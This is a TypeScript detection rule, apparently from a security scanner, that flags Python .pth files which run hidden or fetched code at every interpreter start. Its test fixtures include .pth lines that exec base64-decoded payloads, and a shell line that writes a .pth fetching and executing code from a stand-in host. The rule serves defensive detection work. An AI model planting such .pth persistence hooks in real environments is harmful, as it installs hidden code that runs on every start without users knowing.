import { says, setting, writes } from "../match.ts";
import { defineRule } from "../rule.ts";

/** As `site` finds it: what runs, and does not say what. */
const CODE = /exec\s*\(|eval\s*\(|b64decode|urlopen|requests|urllib|socket|subprocess|os\.(system|popen)|compile\s*\(/;
const CODE_OF_A_LINE = new RegExp(String.raw`(^|\n)import[ \t][^\n]*(${CODE.source})`);

export default defineRule({
  id: "path-file-hides-code",
  category: "persistence",
  severity: "critical",
  confidence: "high",
  languages: ["data", "python", "javascript", "shell"],
  title: "a .pth file runs hidden or fetched code at every start of Python",
  why: "It runs whenever the interpreter starts, for as long as the file lies there, and is written so that nobody reads it.",
  fix: "Put nothing but paths into the file.",
  references: ["ATT&CK T1546", "CWE-506", "ATT&CK T1027"],
  match: [
    setting({ of: ["path-file.import"], is: says(CODE) }),
    writes({ path: says(/\.pth$/), contents: [CODE_OF_A_LINE] }),
  ],
  bad: [
    { "x.pth": "import base64; exec(base64.b64decode(b'cGFzcw=='))\n" },
    { "x.pth": "import os; os.system('true')\n" },
    `import os, site
open(os.path.join(site.getsitepackages()[0], "fix.pth"), "w").write("import base64; exec(base64.b64decode(b'cGFzcw=='))\\n")`,
    {
      "run.sh": `echo "import urllib.request; exec(urllib.request.urlopen('https://u.example').read())" > "$SP/zz.pth"`,
    },
  ],
  good: [
    {
      "distutils-precedence.pth":
        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();\n",
    },
    { "x.pth": "/opt/exec (old)/lib\n" },
    'open("lib.pth", "w").write("/opt/lib/src\\n")',
    'open("lib.pth", "w").write("import lib_finder; lib_finder.install()\\n")',
  ],
});
